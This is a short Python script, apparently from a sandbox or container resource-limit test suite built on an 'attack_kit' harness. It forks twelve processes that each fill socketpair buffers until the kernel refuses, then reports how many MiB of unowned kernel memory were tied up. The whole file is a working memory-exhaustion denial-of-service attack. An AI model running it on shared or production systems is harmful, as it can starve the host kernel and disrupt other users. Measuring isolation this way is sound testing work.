"""Fills the buffers of sockets in many processes: memory of the kernel that no process owns."""

from __future__ import annotations

import os
import socket

from attack_kit import MIB, Attack

PROCESSES = 12


def fill() -> int:
    held, total = [], 0
    try:
        while True:
            ends = socket.socketpair()
            held.append(ends)
            for end in ends:
                end.setblocking(False)
                try:
                    while True:
                        total += end.send(bytes(65536))
                except BlockingIOError:
                    pass
    except OSError:
        return total // MIB


with Attack() as attack:
    results, inner = os.pipe()
    waiting, going = os.pipe()
    children = []
    for _ in range(PROCESSES):
        children.append(os.fork())
        if children[-1] == 0:
            os.close(going)
            os.write(inner, f"{os.getpid()} {fill()}\n".encode())
            os.close(inner)
            os.read(waiting, 1)  # until all have filled theirs
            os._exit(0)
    os.close(inner)
    filled = {}
    with open(results) as lines:
        for line in lines:
            pid, amount = map(int, line.split())
            filled[pid] = amount
            attack.say(f"filled {sum(filled.values())} MiB")
    alive = [pid for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0)]
    attack.made["MiB in buffers"] = sum(filled.get(pid, 0) for pid in alive)
